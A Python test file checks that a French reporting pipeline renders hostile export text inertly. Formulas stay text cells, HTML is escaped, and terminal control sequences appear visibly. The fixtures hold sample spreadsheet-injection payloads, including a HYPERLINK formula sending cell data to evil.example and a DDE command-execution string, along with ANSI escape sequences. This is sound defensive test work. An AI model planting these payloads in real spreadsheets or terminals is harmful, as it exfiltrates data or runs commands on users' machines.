"""Safe outputs (issue 13, point 3): text from exports, `structure.yaml` or file names never
becomes a formula in the report workbook, a control character never fails the report and is
written visibly (workbook, HTML, terminal). Real drop zone, real pipeline, real files; the
workbook is read as Excel reads it, as a zip of XML parts."""

from __future__ import annotations

import csv
import html
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path
from types import SimpleNamespace

import dagster as dg
import openpyxl
import pytest
import yaml

from pipelines.reporting.html import write_html
from pipelines.reporting.model import Cell, Chart, Paragraph, Report, Row, Section, Table
from pipelines.reporting.write import generate
from pipelines.reporting.xlsx import write_workbook
from pipelines.runner import run_partitions
from pipelines.terminal import for_terminal
from tests.builders import AIDS, JEUNES_HEADERS, PROGRAMMES, write_xlsx, young
from tests.conftest import RUN_DATE, query

S, Y = "HOS", 2025
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
COMMUNE_CONTROL = "Marcq\x0ben-Barœul\x1b[2J"
STRUCTURE_NAME = "=cmd|' /C calc'!A0"
AID_TYPES = ["=1+1", "+1", "@SUM(A1)", "\x1b[31mRouge\x1b[0m", "Aide\x1b]0;titre\x07B", "FAJ"]
# in the xlsx export, characters are written as Excel writes them: `_x001B_` (readers decode)
PROGRAMME_TYPES = ["-1", "=2+2", "Prog\x1b[2J\x0b", "Nul\x00le", "CEJ"]
# what the report shows for them
VISIBLE = [
    "=1+1",
    "+1",
    "@SUM(A1)",
    "\\x1b[31mRouge\\x1b[0m",
    "Aide\\x1b]0;titre\\x07B",
    "-1",
    "=2+2",
    "Prog\\x1b[2J",
    HYPERLINK,
    "Marcq\\x0ben-Barœul\\x1b[2J",
    "Nulle",
]  # the reader removes a NUL (PostgreSQL text cannot hold it)
# what XML 1.0 refuses, C1 and DEL: none may be in a file the report writes
RAW_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
TERMINAL_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")


def _excel_escaped(text: str) -> str:
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 0x20 else c for c in text)


def write_export_xlsx(path: Path, headers: list[str], rows: list[list[object]]) -> Path:
    """An export as Excel writes one: every str a text cell (openpyxl would make `=2+2` a
    formula), control characters as Excel's `_xHHHH_` escapes (XML cannot hold them)."""
    marks: dict[str, str] = {}

    def mark(value: object) -> object:
        if isinstance(value, str) and (value.startswith("=") or RAW_CONTROL.search(value)):
            marks[f"MARK{len(marks):03d}"] = value
            return f"MARK{len(marks) - 1:03d}"
        return value

    write_xlsx(path, headers, [[mark(v) for v in row] for row in rows])
    patched = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(patched, "w") as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                for key, value in marks.items():
                    data = data.replace(
                        key.encode(), html.escape(_excel_escaped(value), quote=False).encode()
                    )
            out.writestr(item, data)
    patched.replace(path)
    return path


def write_hostile_drop_zone(raw: Path, nul: bool = True) -> Path:
    """raw/HOS/2025: a formula and control characters in commune names (structure.yaml), in
    aid types (a CSV export) and in programmes (an xlsx export, a NUL among them when
    `nul`)."""
    folder = raw / S
    folder.mkdir(parents=True)
    (folder / "structure.yaml").write_text(
        yaml.safe_dump(
            {
                "name": STRUCTURE_NAME,
                "territory": [
                    {"insee": "59368", "name": HYPERLINK},
                    {"insee": "59328", "name": "Lambersart"},
                    {"insee": "59378", "name": COMMUNE_CONTROL},
                ],
            },
            allow_unicode=True,
            sort_keys=False,
        ),
        encoding="utf-8",
    )
    d = folder / str(Y)
    people = [f"H{i:03d}" for i in range(14)]
    write_xlsx(
        d / "jeunes.xlsx",
        JEUNES_HEADERS,
        [
            young(p, commune="Lambersart" if i % 3 else "La Madeleine", first="10/02/2025")
            for i, p in enumerate(people)
        ],
    )
    with open(d / "aides.csv", "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(AIDS)
        for i, kind in enumerate(AID_TYPES):
            writer.writerow([people[i], kind, "01/03/2025", "100", "Versé"])
    write_export_xlsx(
        d / "dispositifs.xlsx",
        PROGRAMMES,
        [
            [people[i], kind, "01/04/2025", None]
            for i, kind in enumerate(PROGRAMME_TYPES)
            if nul or "\x00" not in kind
        ],
    )
    return raw


def _run(raw: Path, url: str):
    return run_partitions(
        raw_dir=raw,
        url=url,
        run_date=RUN_DATE,
        instance=dg.DagsterInstance.ephemeral(),
        progress=lambda _m: None,
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    """The hostile drop zone run through the Dagster assets (the `report` asset included)
    into DuckDB."""
    root = tmp_path_factory.mktemp("hostile")
    raw = write_hostile_drop_zone(root / "raw")
    url = f"duckdb:///{root / 'warehouse.duckdb'}"
    return SimpleNamespace(root=root, raw=raw, url=url, summary=_run(raw, url))


@pytest.fixture(scope="module")
def written(hostile: SimpleNamespace) -> list[Path]:
    """`observatoire report`'s files (xlsx, html) and the `report` asset's."""
    files = generate(hostile.url, S, Y, hostile.root / "out").files
    return [*files, *sorted((hostile.root / "reports").glob("*"))]


# --- helpers: the workbook as Excel reads it --------------------------------------------------


def xml_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels"))}


def text_cells(path: Path) -> dict[str, dict[str, list[openpyxl.cell.Cell]]]:
    """{sheet: {text: [cells]}} for every str cell."""
    wb = openpyxl.load_workbook(path)
    found: dict[str, dict[str, list]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(ws.title, {}).setdefault(cell.value, []).append(cell)
    return found


# --- the run --------------------------------------------------------------------------------


def test_hostile_text_fails_no_partition(hostile):
    assert hostile.summary.outcomes
    assert not hostile.summary.failed, [o.error for o in hostile.summary.failed]
    assert sorted(p.name for p in (hostile.root / "reports").iterdir()) == [
        f"rapport-{S}-{Y}.html",
        f"rapport-{S}-{Y}.xlsx",
    ]


def test_the_warehouse_keeps_the_texts_as_typed(hostile):
    """The escapes are the report's: the warehouse holds what the exports hold."""
    aid_types = {r["aid_type"] for r in query(hostile.url, "SELECT aid_type FROM conformed.aides")}
    assert {"=1+1", "@SUM(A1)", "\x1b[31mRouge\x1b[0m"} <= aid_types
    communes = {r["commune"] for r in query(hostile.url, "SELECT commune FROM conformed.communes")}
    assert {HYPERLINK, COMMUNE_CONTROL} <= communes


# --- the workbook -----------------------------------------------------------------------------


def test_no_cell_of_the_workbook_is_a_formula(written):
    workbooks = [p for p in written if p.suffix == ".xlsx"]
    assert len(workbooks) == 2
    for path in workbooks:
        for name, data in xml_parts(path).items():
            ET.fromstring(data)  # every part is well-formed XML
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", data), f"{path.name}:{name} holds a formula"
            if name.startswith("xl/charts/"):
                # a chart's <c:f> are the project's own references to its table, nothing else
                for ref in re.findall(rb"<c:f>([^<]*)</c:f>", data):
                    assert re.fullmatch(
                        rb"('([^']|'')+'|[^'!]+)!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", ref
                    ), ref


def test_hostile_texts_are_text_cells_in_sections_and_sources(written):
    cells = text_cells(written[0])
    sections = {t for sheet, texts in cells.items() if sheet != "Sources" for t in texts}
    for text in VISIBLE:
        assert text in sections, text
    sources = cells["Sources"]
    for text in [HYPERLINK, "=1+1", "@SUM(A1)", "=2+2", "\\x1b[31mRouge\\x1b[0m"]:
        assert text in sources, text
    for sheet in cells.values():
        for text, found in sheet.items():
            assert not RAW_CONTROL.search(text), text
            for cell in found:
                assert cell.data_type == "s"
                # Excel keeps the cell text when the user edits it (F2, Enter)
                assert cell.quotePrefix == text.startswith(("=", "+", "-", "@")), text


def test_the_texts_are_stored_as_strings_in_the_xml(written):
    """As Excel reads the file: an inline string, the formula-like text its content."""
    sheets = b"".join(
        data for name, data in xml_parts(written[0]).items() if name.startswith("xl/worksheets/")
    )
    for text in [HYPERLINK, "=1+1", "+1", "-1", "@SUM(A1)", "\\x1b[31mRouge\\x1b[0m"]:
        escaped = html.escape(text, quote=False).encode()
        assert re.search(rb't="inlineStr"><is><t[^>]*>' + re.escape(escaped) + rb"</t>", sheets), (
            text
        )


# --- the HTML page ----------------------------------------------------------------------------


def test_the_page_escapes_hostile_texts(written):
    for path in [p for p in written if p.suffix == ".html"]:
        page = path.read_text(encoding="utf-8")
        assert not RAW_CONTROL.search(page)
        assert (
            "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Cliquez ici&quot;)" in page
        )
        assert 'HYPERLINK("' not in page
        for text in [
            "\\x1b[31mRouge\\x1b[0m",
            "Aide\\x1b]0;titre\\x07B",
            "Nulle",
            "Marcq\\x0ben-Barœul\\x1b[2J",
            "@SUM(A1)",
        ]:
            assert html.escape(text) in page, text


# --- every character, straight through the writers ---------------------------------------


def test_every_control_character_is_written_visibly(tmp_path):
    """Labels, headers, titles, sentences, notes, sheet and chart titles holding every
    character XML 1.0 refuses, C1 controls and a lone surrogate (an undecodable byte of a
    file name): both files are written and readable, each character as a visible escape."""
    nasty = "".join(chr(c) for c in [*range(0x20), 0x7F, 0x85, 0x9B]) + "\ufffe\uffff\udc8f"
    label = f"a{nasty}b"
    rows = [Row(f"{label}{i}", [Cell(i + 1)]) for i in range(3)]
    table = Table(
        f"titre {label}",
        [f"col {label}", f"=SUM({label})"],
        [*rows, Row("Total", [Cell(6, total=True)], total=True)],
        chart=Chart("bar", f"graphique {label}", [1]),
        note=f"note {label}",
    )
    section = Section(f"sec\x1b{label}"[:40], [Paragraph(f"=phrase {label}"), table])
    report = Report(S, Y, f"titre {label}", [section])
    xlsx = write_workbook([report], tmp_path / "r.xlsx")
    page = write_html([report], tmp_path / "r.html").read_bytes().decode("utf-8")
    for data in xml_parts(xlsx).values():
        ET.fromstring(data)
        assert not RAW_CONTROL.search(data.decode("utf-8"))
    assert not RAW_CONTROL.search(page)
    # tab, newline and carriage return are XML's own: kept
    expected = (
        "a"
        + "".join(f"\\x{c:02x}" for c in range(0x09))
        + "\t\n\\x0b\\x0c\r"
        + "".join(f"\\x{c:02x}" for c in range(0x0E, 0x20))
        + "\\x7f\\x85\\x9b"
        + "\\ufffe\\uffff\\udc8f"
        + "b"
    )
    assert html.escape(expected) in page
    wb = openpyxl.load_workbook(xlsx)
    ws = wb.worksheets[0]
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    in_xml = expected.replace("\r", "\n")  # XML reads a carriage return as a newline
    for text in [
        f"titre {in_xml}",
        f"=SUM({in_xml})",
        f"{in_xml}0",
        f"=phrase {in_xml}",
        f"note {in_xml}",
    ]:
        assert text in texts, text
    assert not RAW_CONTROL.search(ws.title)


def test_a_label_with_excels_escape_spelling_is_shown_as_typed(tmp_path):
    """`_x0041_` in a cell is Excel's escape of `A`: the label is escaped in turn."""
    table = Table("t", ["", "n"], [Row("Aide _x0041_ _x001B_", [Cell(1)])])
    xlsx = write_workbook([Report(S, Y, "t", [Section("s", [table])])], tmp_path / "r.xlsx")
    sheet = xml_parts(xlsx)["xl/worksheets/sheet1.xml"]
    assert b"Aide _x005F_x0041_ _x005F_x001B_" in sheet


# --- the terminal -----------------------------------------------------------------------------


def test_for_terminal_escapes_control_sequences():
    assert for_terminal("\x1b[2J\x1b]0;titre\x07fin") == "\\x1b[2J\\x1b]0;titre\\x07fin"
    assert for_terminal("a\rb\x0bc\x9b31md\x00e\x7f") == "a\\x0db\\x0bc\\x9b31md\\x00e\\x7f"
    assert (
        for_terminal("ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €")
        == "ligne 1\n\tligne 2 : Marcq-en-Barœul, 1 250 €"
    )
    assert for_terminal("abc\u202edcba") == "abc\\u202edcba"  # a bidi override
    assert for_terminal("fichier\udcff.csv") == "fichier\\udcff.csv"  # an undecodable byte
    for_terminal("\udcff").encode("utf-8")  # printable as UTF-8


def test_the_report_command_prints_no_control_character(hostile):
    """`observatoire report` as a user runs it, with an output folder whose name holds
    escape sequences: files written, nothing raw on the terminal."""
    out = hostile.root / "sortie\x1b]0;titre\x07\x1b[2J"
    done = subprocess.run(
        [
            str(Path(sys.executable).with_name("observatoire")),
            "report",
            "--warehouse",
            hostile.url,
            "--structure",
            S,
            "--year",
            str(Y),
            "--out",
            str(out),
        ],
        capture_output=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-2000:]
    assert not TERMINAL_CONTROL.search(done.stdout + done.stderr), done.stdout
    lines = done.stdout.decode("utf-8").splitlines()
    assert [line.rsplit("/", 1)[-1] for line in lines] == [
        f"rapport-{S}-{Y}.xlsx",
        f"rapport-{S}-{Y}.html",
    ]
    assert all("sortie\\x1b]0;titre\\x07\\x1b[2J/" in line for line in lines)
    assert (out / f"rapport-{S}-{Y}.xlsx").exists()


def test_the_report_command_error_prints_no_control_character(hostile, tmp_path):
    done = subprocess.run(
        [
            str(Path(sys.executable).with_name("observatoire")),
            "report",
            "--warehouse",
            hostile.url,
            "--structure",
            "NOPE\x1b[2J",
            "--year",
            str(Y),
            "--out",
            str(tmp_path),
        ],
        capture_output=True,
        timeout=300,
    )
    assert done.returncode == 1
    assert not TERMINAL_CONTROL.search(done.stdout + done.stderr), done.stderr
    assert b"NOPE\\x1b[2J" in done.stderr


def test_hostile_text_on_postgresql(postgres_url, tmp_path):
    raw = write_hostile_drop_zone(tmp_path / "raw", nul=False)
    summary = _run(raw, postgres_url)
    assert summary.outcomes and not summary.failed, [o.error for o in summary.failed]
    workbook = tmp_path / "reports" / f"rapport-{S}-{Y}.xlsx"
    sheets = b"".join(
        data for name, data in xml_parts(workbook).items() if name.startswith("xl/worksheets/")
    )
    assert not re.search(rb"<f[ >/]", sheets)
    assert html.escape("\\x1b[31mRouge\\x1b[0m").encode() in sheets
    assert html.escape(HYPERLINK, quote=False).encode() in sheets


# --- a NUL on PostgreSQL ----------------------------------------------------------------------


def test_a_nul_in_an_export_on_postgresql(postgres_url, tmp_path):
    """PostgreSQL text cannot hold NUL: an xlsx cell `_x0000_` (decoded to \\x00) failed the
    partition at the staging COPY, naming neither the file nor what to do. The reader now
    removes it: the partition loads, on PostgreSQL as on DuckDB."""
    raw = write_hostile_drop_zone(tmp_path / "raw")
    summary = _run(raw, postgres_url)
    assert summary.outcomes and not summary.failed, [o.error for o in summary.failed]
    stored = query(postgres_url, "SELECT programme FROM conformed.dispositifs")
    assert stored and not any("\x00" in (r["programme"] or "") for r in stored)
